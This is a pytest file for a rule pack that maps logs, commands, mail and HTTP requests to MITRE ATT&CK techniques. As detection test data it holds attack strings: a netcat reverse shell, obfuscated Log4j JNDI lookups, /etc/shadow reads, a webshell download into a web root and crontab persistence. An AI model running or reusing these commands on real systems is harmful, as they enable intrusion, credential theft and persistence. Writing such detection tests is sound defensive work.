"""The rule pack: what each rule is called and emits, what it must see and must not.

What a rule must keep is read with a plain YAML loader.  What it means is what `ttpc.ir.interpret` says, which knows
neither literals nor a database, and asks `re.search` about patterns.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, fields, replace
from functools import cache
from pathlib import Path
from typing import Any, TypeAlias

import pytest
import yaml

from ttpc import ir
from ttpc.attack import embedded
from ttpc.ir.interpret import holds
from ttpc.kinds import DEFAULT_FIELD
from ttpc.lower import lower
from ttpc.parse import parse

RULES = Path(__file__).parents[2] / "rules"

Payload: TypeAlias = dict[str, Any]
Emit: TypeAlias = tuple[str, str, str | None, float]


# --- The contract: ids, names, emits and evidence are compared with tags made before, so they never change by accident.


@dataclass(frozen=True)
class Contract:
    kinds: str
    """One, or several with blanks between; the first is the folder."""
    name: str
    emits: tuple[Emit, ...]
    evidence: tuple[str, ...] = ("command_text",)
    version: int = 1

    @property
    def kind(self) -> str:
        return self.kinds.split()[0]


MAIL = ("body_sha256", "rcpt_domain_set", "attachment_sha256s", "rcpt_count", "matched_headers")
"""What the tags of most rules for mail have."""

# Of the predecessor's confidences nine are lowered on purpose (version 2): what an administrator's day is full of.  Rules
# about what stands around it have them instead: R0177, R0178, R0234 to R0239, R0249, R0290 and R0295.

CONTRACT = {
    "R0001": Contract(
        *("auth_attempt", "generic_auth_brute"),
        *((("TA0006", "T1110", None, 0.85),), ("fail_count", "service")),
    ),
    "R0002": Contract(
        *("auth_attempt", "password_guessing"),
        *((("TA0006", "T1110", "T1110.001", 0.85),), ("username", "password_count")),
    ),
    "R0003": Contract(
        *("identity auth_attempt", "password_spraying"),
        *((("TA0006", "T1110", "T1110.003", 0.90),), ("shared_password_hash", "account_count")),
    ),
    "R0004": Contract(
        *("credential auth_attempt", "credential_stuffing"),
        *((("TA0006", "T1110", "T1110.004", 0.90),), ("credential_hash", "reuse_count")),
    ),
    "R0005": Contract(
        *("auth_attempt", "valid_account_use"),
        *((("TA0001", "T1078", None, 0.70),), ("username", "service")),
    ),
    "R0006": Contract(
        *("auth_attempt", "default_credentials"),
        *((("TA0001", "T1078", "T1078.001", 0.90),), ("username", "service")),
    ),
    "R0007": Contract(
        "http_request",
        "sqlmap_user_agent",
        (("TA0001", "T1190", None, 0.90), ("TA0043", "T1595", "T1595.002", 0.90)),
        ("user_agent", "raw_url"),
    ),
    "R0008": Contract(
        "http_request", "log4j_jndi", (("TA0001", "T1190", None, 0.95),), ("raw_url", "headers")
    ),
    "R0009": Contract(
        "http_request", "path_traversal", (("TA0001", "T1190", None, 0.85),), ("raw_url",)
    ),
    "R0010": Contract("command", "unix_shell_exec", (("TA0002", "T1059", "T1059.004", 0.90),)),
    "R0011": Contract(
        "command", "scripting_interpreter_exec", (("TA0002", "T1059", None, 0.25),), version=2
    ),
    "R0012": Contract(
        "command", "ingress_tool_transfer", (("TA0011", "T1105", None, 0.25),), version=2
    ),
    "R0013": Contract("command", "etc_passwd_read", (("TA0007", "T1083", None, 0.85),)),
    "R0014": Contract("command", "etc_shadow_read", (("TA0006", "T1003", "T1003.008", 0.95),)),
    "R0015": Contract(
        "command",
        "suid_search",
        (("TA0007", "T1083", None, 0.85), ("TA0004", "T1548", "T1548.001", 0.95)),
    ),
    "R0016": Contract("command", "recursive_find", (("TA0007", "T1083", None, 0.25),), version=2),
    "R0017": Contract(
        "command",
        "network_service_scan",
        (("TA0007", "T1046", None, 0.90), ("TA0043", "T1595", None, 0.90)),
    ),
    "R0018": Contract(
        "command", "system_info_discovery", (("TA0007", "T1082", None, 0.25),), version=2
    ),
    "R0019": Contract("command", "user_discovery", (("TA0007", "T1033", None, 0.25),), version=2),
    "R0020": Contract(
        "command", "network_config_discovery", (("TA0007", "T1016", None, 0.25),), version=2
    ),
    "R0021": Contract(
        "command", "network_connections_discovery", (("TA0007", "T1049", None, 0.25),), version=2
    ),
    "R0022": Contract(
        "command",
        "ldap_account_discovery",
        (("TA0007", "T1087", "T1087.002", 0.90), ("TA0007", "T1482", None, 0.85)),
    ),
    "R0023": Contract("command", "smb_share_discovery", (("TA0007", "T1135", None, 0.90),)),
    "R0024": Contract(
        "command", "local_account_creation", (("TA0003", "T1136", "T1136.001", 0.25),), version=2
    ),
    "R0025": Contract("command", "cron_persistence", (("TA0003", "T1053", "T1053.003", 0.90),)),
    "R0026": Contract(
        "command", "redis_ssh_key_persistence", (("TA0003", "T1098", "T1098.004", 0.90),)
    ),
    "R0027": Contract("command", "webshell_install", (("TA0003", "T1505", "T1505.003", 0.90),)),
    "R0028": Contract(
        "command", "clear_command_history", (("TA0005", "T1070", "T1070.003", 0.90),)
    ),
    "R0029": Contract(
        "command", "sudo_abuse", (("TA0004", "T1548", "T1548.003", 0.25),), version=2
    ),
    "R0030": Contract(
        "session",
        "jarm_hassh_c2_fingerprint",
        (("TA0011", "T1071", None, 0.85), ("TA0011", "T1071", "T1071.001", 0.90)),
        ("jarm", "hassh", "matched_framework"),
    ),
    "R0031": Contract(
        "session",
        "beaconing",
        (("TA0011", "T1071", None, 0.80), ("TA0010", "T1029", None, 0.85)),
        ("beacon_interval_s", "beacon_jitter_pct"),
    ),
    "R0032": Contract(
        *("session command http_request", "data_destruction"),
        *((("TA0040", "T1485", None, 0.95),), ("matched_op", "target", "command_text")),
    ),
    "R0033": Contract(
        "session email command http_request",
        "ransom_note_pattern",
        (("TA0040", "T1486", None, 0.90),),
        (
            *("btc_address", "matched_keywords"),
            *("matched_body_kw", "body_sha256", "rcpt_domain_set"),  # of mails
        ),
    ),
    "R0034": Contract(
        *("session command", "exfil_over_web"),
        (("TA0010", "T1567", None, 0.85),),
        ("bytes_out", "request_count", "target_host", "command_text"),
    ),
    "R0035": Contract(
        *("session http_request", "db_mass_read"),
        (("TA0009", "T1213", None, 0.85),),
        ("service", "rows_read", "bytes_read", "raw_url"),
    ),
    "R0036": Contract(
        "session http_request command",
        "credentials_in_files",
        (("TA0006", "T1552", "T1552.001", 0.90),),
        ("matched_path", "command_text"),
    ),
    "R0037": Contract(
        "session http_request command",
        "k8s_service_account_token",
        (("TA0006", "T1552", "T1552.007", 0.95),),
        ("matched_path", "namespace", "command_text"),
    ),
    "R0038": Contract(
        *("session http_request command", "docker_host_escape"),
        (("TA0004", "T1611", None, 0.95),),
        ("matched_signal", "container_image", "command_text"),
    ),
    "R0039": Contract(
        *("session command", "llmnr_poisoning"),
        (("TA0009", "T1557", "T1557.001", 0.90),),
        ("poisoned_query", "victim_host", "command_text"),
    ),
    "R0040": Contract(
        *("session command", "tftp_router_config_retrieval"),
        (("TA0009", "T1602", "T1602.002", 0.90),),
        ("tftp_filename", "source_host", "command_text"),
    ),
    "R0041": Contract(
        "email",
        "open_relay_abuse",
        (("TA0040", "T1496", None, 0.85), ("TA0042", "T1586", "T1586.002", 0.85)),
        (*MAIL,),
    ),
    "R0042": Contract(
        "email",
        "mass_phishing_campaign",
        (("TA0001", "T1566", None, 0.85),),
        (*MAIL[:-1],),
    ),
    "R0043": Contract(
        "email",
        "phishing_kit_xmailer",
        (("TA0001", "T1566", None, 0.90), ("TA0042", "T1588", "T1588.001", 0.85)),
        (*MAIL, "matched_kit"),
    ),
    "R0044": Contract(
        "email",
        "idn_homoglyph_url",
        (("TA0005", "T1036", "T1036.005", 0.90), ("TA0001", "T1566", "T1566.002", 0.90)),
        (*MAIL, "matched_url_host"),
    ),
    "R0045": Contract(
        "email",
        "sender_masquerade",
        (("TA0005", "T1036", None, 0.85),),
        (*MAIL, "matched_signals"),
    ),
    "R0046": Contract(
        "email",
        "malicious_attachment",
        (("TA0002", "T1204", "T1204.002", 0.90), ("TA0001", "T1566", "T1566.001", 0.90)),
        (*MAIL[:-1], "matched_trigger"),
    ),
    "R0047": Contract(
        "email",
        "bec_pattern",
        (("TA0001", "T1566", "T1566.003", 0.85),),
        (*MAIL, "matched_subject_kw", "matched_body_kw"),
    ),
    "R0048": Contract(
        "email",
        "encoded_payload_in_body",
        (("TA0011", "T1071", "T1071.003", 0.85), ("TA0005", "T1027", None, 0.90)),
        (*MAIL[:-1], "encoded_byte_count"),
    ),
    "R0049": Contract(
        *("canary_fingerprint", "navigator_webdriver_flag"),
        *((("TA0002", "T1059", None, 0.85),), ("metric",)),
    ),
    "R0050": Contract(
        "canary_fingerprint",
        "automation_canvas_audio_hash",
        (("TA0002", "T1059", None, 0.85), ("TA0042", "T1588", "T1588.002", 0.85)),
        ("metric", "matched_signature"),
    ),
    "R0051": Contract(
        *("canary_fingerprint", "webrtc_ip_leak"),
        *((("TA0011", "T1090", None, 0.85),), ("metric",)),
    ),
    "R0052": Contract(
        *("canary_fingerprint", "tz_lang_geo_mismatch"),
        *((("TA0011", "T1090", None, 0.70),), ("metric",)),
    ),
    "R0053": Contract(
        *("canary_fingerprint", "platform_inconsistency"),
        *((("TA0005", "T1036", None, 0.80),), ("metric",)),
    ),
    "R0054": Contract(
        "intel",
        "abuseipdb_category",
        (
            *(("TA0006", "T1110", None, 0.7), ("TA0001", "T1190", None, 0.7)),
            *(("TA0001", "T1566", None, 0.7), ("TA0007", "T1046", None, 0.7)),
            *(("TA0001", "T1078", None, 0.6), ("TA0011", "T1090", None, 0.6)),
            *(("TA0040", "T1496", None, 0.6), ("TA0043", "T1595", None, 0.7)),
        ),
        ("abuseipdb_categories", "abuseipdb_score"),
        version=2,
    ),
    "R0055": Contract(
        "intel",
        "greynoise_classification",
        (
            *(("TA0043", "T1595", "T1595.002", 0.7), ("TA0011", "T1071", None, 0.7)),
            *(("TA0011", "T1090", None, 0.7), ("TA0006", "T1110", None, 0.7)),
            ("TA0042", "T1588", None, 0.7),
        ),
        ("greynoise_classification", "greynoise_tags", "greynoise_name"),
        version=2,
    ),
    "R0056": Contract(
        "intel",
        "feodo_tracker_hit",
        (("TA0011", "T1071", "T1071.001", 0.85), ("TA0042", "T1588", "T1588.001", 0.85)),
        ("feodo_listed", "feodo_malware_family", "malware_family"),
    ),
    "R0057": Contract(
        "intel",
        "threatfox_threat_type",
        (
            *(("TA0011", "T1071", None, 0.8), ("TA0042", "T1588", "T1588.001", 0.8)),
            *(("TA0011", "T1105", None, 0.75), ("TA0009", "T1056", None, 0.7)),
        ),
        ("threatfox_threat_types", "threatfox_malware_families", "threatfox_ioc_types"),
        version=2,
    ),
    "R0059": Contract(
        "ipv6_leak",
        "ipv6_link_local_leak",
        (("TA0011", "T1090", None, 0.85),),
        ("addr", "mac_oui", "iid_kind", "vector", "on_iface", "attacker_v4", "observed_at"),
    ),
}


@cache
def rule(rule_id: str) -> Payload:
    (path,) = (RULES / CONTRACT[rule_id].kind).glob(f"{rule_id}_*.yaml")
    loaded: Payload = yaml.safe_load(path.read_text(encoding="utf-8"))
    return loaded


@pytest.mark.parametrize("rule_id", CONTRACT)
def test_a_rule_keeps_its_contract(rule_id: str) -> None:
    contract, found = CONTRACT[rule_id], rule(rule_id)
    assert (RULES / contract.kind / f"{rule_id}_{contract.name}.yaml").is_file()
    assert (found["rule_id"], found["rule_version"]) == (rule_id, contract.version)
    assert (found["name"], found["applies_to"]) == (contract.name, contract.kinds.split())
    emits = [
        (e["tactic"], e["technique_id"], e.get("sub_technique_id"), e["confidence"])
        for e in found["emits"]
    ]
    assert emits == list(contract.emits)
    given = {*found.get("evidence_fields", ()), *found.get("evidence", ())}
    assert given == set(contract.evidence)


def test_every_rule_of_the_predecessor_has_a_contract() -> None:
    ids = {path.name.partition("_")[0] for path in RULES.rglob("R*.yaml")}
    assert {each for each in ids if each < "R0060"} == {*CONTRACT}


@pytest.mark.parametrize("rule_id", CONTRACT)
def test_a_rule_is_documented(rule_id: str) -> None:
    found = rule(rule_id)
    assert len(found["description"]) > 100
    assert found["false_positives"]
    technique = found["emits"][-1].get("sub_technique_id") or found["emits"][-1]["technique_id"]
    page = f"https://attack.mitre.org/techniques/{technique.replace('.', '/')}/"
    assert page in found["references"]
    assert len(found["references"]) >= 2
    assert found["last_reviewed"] < found["next_review"]


# --- What a rule means, and what each of its parts finds.


@cache
def pack() -> dict[tuple[str, str], ir.Rule]:
    """Every rule by id and kind, before anything is made simpler."""
    found, said = parse([RULES])
    assert said == []
    return {(each.id, each.kind): each for each in lower(found.rules, embedded())}


def compiled(rule_id: str) -> list[ir.Rule]:
    return [pack()[rule_id, kind] for kind in CONTRACT[rule_id].kinds.split()]


def fires(rule_id: str, payload: Mapping[str, Any]) -> bool:
    """As an event of any of the rule's kinds."""
    return any(holds(each.condition, payload) for each in compiled(rule_id))


def single(test: ir.Test) -> Iterator[ir.Test]:
    """A test for each of its operands: each regex, text, value or network of a list."""
    many = next((each.name for each in fields(test.question) if takes_many(each.name)), None)
    if many is None:
        yield test
        return
    for each in getattr(test.question, many):
        changed: dict[str, Any] = {many: (each,)}
        yield replace(test, question=replace(test.question, **changed))


def takes_many(name: str) -> bool:
    return name in {"regexes", "texts", "wanted", "cidrs"}


def hits(rule_id: str, payload: Mapping[str, Any]) -> dict[str, bool]:
    """Which of the operands under each of the rule's operators find something, in whichever field.

    What a `not` denies need not be found: an example in which it is found does not match.
    """
    found: dict[str, bool] = {}
    for test in (test for each in compiled(rule_id) for test in asked(each.condition)):
        for number, each in enumerate(single(test)):
            name = f"{test.span.line}:{test.span.column} {test.name} {number}"
            found[name] = found.get(name, False) or holds(each, payload)
    return found


def asked(expr: ir.Expr) -> Iterator[ir.Test]:
    match expr:
        case ir.Test():
            yield expr
        case ir.All(parts) | ir.Any(parts) | ir.AtLeast(_, parts):
            for part in parts:
                yield from asked(part)
        case _:
            pass


def as_payload(rule_id: str, example: str | Payload) -> Payload:
    if isinstance(example, str):
        return {DEFAULT_FIELD[CONTRACT[rule_id].kind]: example}
    return example


def examples(rule_id: str, wanted: str) -> list[Payload]:
    return [as_payload(rule_id, example) for example in rule(rule_id)["examples"][wanted]]


# --- Examples


@pytest.mark.parametrize("rule_id", CONTRACT)
def test_examples_hold(rule_id: str) -> None:
    missed = [e for e in examples(rule_id, "match") if not fires(rule_id, e)]
    extra = [e for e in examples(rule_id, "no_match") if fires(rule_id, e)]
    assert (missed, extra) == ([], [])
    assert len(examples(rule_id, "match")) >= 6
    assert len(examples(rule_id, "no_match")) >= 6


@pytest.mark.parametrize("rule_id", CONTRACT)
def test_every_pattern_is_reached_by_an_example(rule_id: str) -> None:
    seen = [hits(rule_id, example) for example in examples(rule_id, "match")]
    assert [name for name in seen[0] if not any(found[name] for found in seen)] == []


@pytest.mark.parametrize("rule_id", CONTRACT)
def test_examples_name_no_address_of_somebody(rule_id: str) -> None:
    documentation = ("192.0.2.", "198.51.100.", "203.0.113.", "127.0.0.1")
    text = (RULES / CONTRACT[rule_id].kind / f"{rule_id}_{CONTRACT[rule_id].name}.yaml").read_text()
    addresses = re.findall(r"(?<![\d.])\d{1,3}(?:\.\d{1,3}){3}(?![\d./])", text)
    assert [a for a in addresses if not a.startswith(documentation)] == []


# --- What the predecessor of this pack is known to miss.

MENDED: dict[str, tuple[str, str | Payload]] = {
    "lsb_release_with_a_flag": ("R0018", "lsb_release -a"),
    "hostnamectl_with_a_flag": ("R0018", "hostnamectl --static"),
    "useradd_option_with_a_value": ("R0024", "useradd -m -s /bin/bash x"),
    "adduser_option_with_an_empty_value": ("R0024", 'adduser --gecos "" x'),
    "whoami_after_a_separator": ("R0019", "x; whoami"),
    "whoami_after_blanks": ("R0019", "   whoami"),
    "whoami_on_the_second_line": ("R0019", "cd /tmp\nwhoami"),
    "id_by_its_path_after_sudo_options": ("R0019", "sudo -n -u root /usr/bin/id"),
    "crontab_from_a_pipe": ("R0025", 'echo "* * * * * /tmp/x" | crontab -'),
    "crontab_from_a_pipe_for_a_user": ("R0025", "cat /tmp/x | sudo crontab -u bob -"),
    "php_run": ("R0011", "php -r 'phpinfo();'"),
    "perl_with_a_module_first": ("R0011", "perl -MSocket -e 'print 1'"),
    "jndi_in_a_header": (
        "R0008",
        {"raw_url": "/", "headers": {"X-Api-Version": "${jndi:ldap://192.0.2.1/a}"}},
    ),
    "jndi_with_a_lower_look_up": ("R0008", "/?q=${${lower:j}ndi:ldap://192.0.2.1/a}"),
    "jndi_spelt_with_defaults": ("R0008", "/?q=${${::-j}${::-n}${::-d}${::-i}:rmi://192.0.2.1/a}"),
    "jndi_nested_in_a_header": (
        "R0008",
        {"raw_url": "/", "headers": {"Referer": "${j${env:X:-n}d${upper:i}:${::-l}dap://x}"}},
    ),
    "jndi_percent_encoded": ("R0008", "/?q=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D"),
    "shadow_with_sudo_and_a_path": ("R0014", "sudo -n /bin/cat /etc/shadow"),
    "passwd_with_egrep": ("R0013", "/bin/egrep bash /etc/passwd"),
    "wget_by_its_path": ("R0012", "/usr/bin/wget https://files.example.com/a"),
    "wget_of_busybox_without_a_scheme": ("R0012", "/bin/busybox wget 192.0.2.1/a.sh"),
    "tftp_get": ("R0012", "tftp -g -r a.sh 192.0.2.1"),
    "netcat_exec_after_the_address": ("R0010", "busybox nc 192.0.2.1 4444 -e /bin/sh"),
    "netcat_probe_after_other_flags": ("R0017", "nc -n -w 1 -z 192.0.2.1 22"),
    "ip_with_options": ("R0020", "sudo ip -4 -br addr"),
    "lsof_flags_in_a_group": ("R0021", "lsof -nPi"),
    "smbclient_flags_in_a_group": ("R0023", "smbclient -NL 192.0.2.1"),
    "redis_inside_a_session": ("R0026", 'config set dir "/root/.ssh/"'),
    "web_root_by_download": ("R0027", "wget -O /var/www/html/x.php http://192.0.2.1/x"),
    "history_of_another_home": ("R0028", "cat /dev/null > /home/bob/.bash_history"),
    "sudo_after_a_separator": ("R0029", "id; sudo -n -l"),
}


@pytest.mark.parametrize("name", MENDED)
def test_a_known_miss_is_mended(name: str) -> None:
    rule_id, example = MENDED[name]
    assert fires(rule_id, as_payload(rule_id, example))


# --- Short command names count where a command stands, and nowhere else.

SHORT = {
    "R0010": "nc 192.0.2.1 4444 -e /bin/sh",
    "R0017": "nc -w 1 -z 192.0.2.1 22",
    "R0019": "id",
    "R0020": "route -n",
    "R0021": "ss -tln",
    "R0024": "useradd -m bob",
}
COMMAND_POSITIONS = [
    "{}",
    " \t {}",
    "true;{}",
    "true && {}",
    "false || {}",
    "sleep 1 & {}",
    "cd /tmp\n{}",
    "({})",
    "x=$({})",
    "diff <({}) b",
    "echo `{}`",
    "{{ {}; }}",
    "! {}",
    "sudo {}",
    "sudo -n -u root {}",
    "/usr/bin/sudo --non-interactive {}",
    "echo pw | sudo -S {}",
    "nohup {} &",
    "env -i LC_ALL=C {}",
    "LANG=C {}",
    "exec {}",
    "xargs {}",
    "busybox {}",
    "/bin/busybox {}",
    "command {}",
    "time {}",
    "watch -d {}",
    "timeout 5 {}",
    "if {}; then true; fi",
    "if true; then {}; else true; fi",
    "if true; then true; else {}; fi",
    "while {}; do true; done",
    "for i in 1 2; do {}; done",
]
OTHER_POSITIONS = [
    "echo {}",
    "man {}",
    "grep {} notes",
    "echo 'a {}'",
    "my{}",
    "./x-{}",
    "ls /opt/{}",
    "é{}",
    "a.{}",
    "sudoers {}",
    "echo todo {}",
    "NAME=x.{}",
]


@pytest.mark.parametrize("rule_id", SHORT)
@pytest.mark.parametrize("position", COMMAND_POSITIONS)
def test_a_short_name_counts_as_a_command(rule_id: str, position: str) -> None:
    assert fires(rule_id, {"command_text": position.format(SHORT[rule_id])})


@pytest.mark.parametrize("rule_id", SHORT)
@pytest.mark.parametrize("position", OTHER_POSITIONS)
def test_a_short_name_counts_nowhere_else(rule_id: str, position: str) -> None:
    assert not fires(rule_id, {"command_text": position.format(SHORT[rule_id])})
